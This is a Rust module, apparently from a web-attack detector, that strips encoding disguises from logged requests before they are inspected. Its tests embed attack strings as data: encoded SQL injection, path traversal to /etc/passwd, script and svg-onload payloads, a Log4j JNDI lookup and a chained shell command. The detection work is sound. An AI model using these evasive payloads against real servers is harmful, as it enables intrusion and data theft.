//! One reading of a request, with every disguise taken off.

use super::{base64, entity, lookup, percent, text};

/// The longest request read, in bytes; servers refuse lines far shorter than this.
const LONGEST: usize = 64 * 1024;

/// The longest SQL comment that is taken out, in bytes: real ones only part two words.
const COMMENT: usize = 256;

/// Returns `request` as an attacked application would come to see it, in lower case.
///
/// `request` is a request target (path and query), a user agent or a referrer, as logged.
/// In this order, and each at most a fixed number of times:
///
/// 1. `+` after the first `?` is a space; percent escapes (`%27`, `%2527`, `%u0027`),
///    escapes of a logging server (`\x27`) and of scripts (`\u0027`, `\u{27}`) are undone.
/// 2. Overlong UTF-8 and full-width forms become plain characters; NUL, control
///    characters and invisible ones go.
/// 3. HTML entities that hide a script, and lookups of Log4j, are resolved.
/// 4. SQL comments become a space; the text of `/*!50000 … */`, which MySQL runs, stays.
/// 5. White space is folded: one `\n` when it held a line break, else one space. Runs of
///    backslashes become one, and one before a quotation mark goes.
/// 6. Base64 that holds readable text is appended after ` base64:`.
pub fn decoded(request: &str) -> String {
    let raw = &request[..request.floor_char_boundary(LONGEST)];
    let plain = text::text(&percent::unescaped(raw));
    let plain = lookup::without_lookups(&entity::without_entities(&plain));
    let mut out = folded(&without_comments(&plain)).to_lowercase();
    let hidden = base64::hidden(&plain);
    if !hidden.is_empty() {
        out.push_str(" base64:");
        out.push_str(&folded(&without_comments(&hidden)).to_lowercase());
    }
    out
}

/// Returns `text` with each SQL comment replaced by a space.
///
/// A comment that is long, or that holds `<`, stays: markup is no comment of SQL.
fn without_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut runs = false;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        let inside = &rest[start + 2..];
        if let Some(run) = inside.strip_prefix('!') {
            runs = true;
            out.push(' ');
            rest = run.trim_start_matches(|c: char| c.is_ascii_digit());
            continue;
        }
        let window = &inside.as_bytes()[..inside.len().min(COMMENT)];
        match window.windows(2).position(|pair| pair == b"*/").filter(|n| !window[..*n].contains(&b'<')) {
            Some(length) => {
                out.push(' ');
                rest = &inside[length + 2..];
            }
            None => {
                out.push_str("/*");
                rest = inside;
            }
        }
    }
    out.push_str(rest);
    if runs { out.replace("*/", " ") } else { out }
}

/// Returns `text` with white space folded and backslashes thinned out.
fn folded(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_whitespace() {
            let mut line_break = matches!(c, '\n' | '\r');
            while let Some(next) = chars.next_if(|n| n.is_whitespace()) {
                line_break |= matches!(next, '\n' | '\r');
            }
            out.push(if line_break { '\n' } else { ' ' });
        } else if c == '\\' {
            while chars.next_if_eq(&'\\').is_some() {}
            if !matches!(chars.peek(), Some('\'' | '"' | '`')) {
                out.push(c);
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::decoded;

    #[test]
    fn plain_requests_only_lose_their_case() {
        assert_eq!(decoded("/Index.html?id=5&Page=2"), "/index.html?id=5&page=2");
        assert_eq!(decoded(""), "");
    }

    #[test]
    fn layers_of_encoding_come_off() {
        assert_eq!(decoded("/a?q=%2527%2bOR%2b1%253D1"), "/a?q='+or+1=1");
        assert_eq!(decoded("/..%c0%af..%252fetc/passwd%00.png"), "/../../etc/passwd.png");
        assert_eq!(decoded("/a?q=%uff1cscript%uff1e"), "/a?q=<script>");
        assert_eq!(decoded("${${lower:j}ndi:${lower:l}dap://h/a}"), "${jndi:ldap://h/a}");
    }

    #[test]
    fn comments_part_words_and_mysql_runs_some() {
        assert_eq!(decoded("/?q=1/**/union/*x*/select"), "/?q=1 union select");
        assert_eq!(decoded("/?q=1/*!50000union*/+select"), "/?q=1 union select");
        assert_eq!(decoded("/?q=/*<svg/onload=a>*/"), "/?q=/*<svg/onload=a>*/");
        assert_eq!(decoded("/tmp/*;ls"), "/tmp/*;ls");
    }

    #[test]
    fn space_and_backslashes_are_folded() {
        assert_eq!(decoded("/?q=a%0d%0a%20b%09%20c"), "/?q=a\nb c");
        assert_eq!(decoded(r"/?q=..\\..\\win.ini\'x"), r"/?q=..\..\win.ini'x");
    }

    #[test]
    fn readable_base64_is_appended() {
        let found = decoded("/?x=PFNDUklQVD5hbGVydCgxKTwvU0NSSVBUPg==");
        assert!(found.ends_with(" base64:<script>alert(1)</script>"), "{found}");
    }

    #[test]
    fn hostile_lengths_stay_cheap() {
        for unit in ["/*", "${", "%25", "&#", "\\", "/*!", "}", "%c0", "a/"] {
            assert!(decoded(&unit.repeat(40_000)).len() <= 3 * super::LONGEST);
        }
        assert!(decoded(&"é".repeat(40_000)).len() <= super::LONGEST);
    }
}
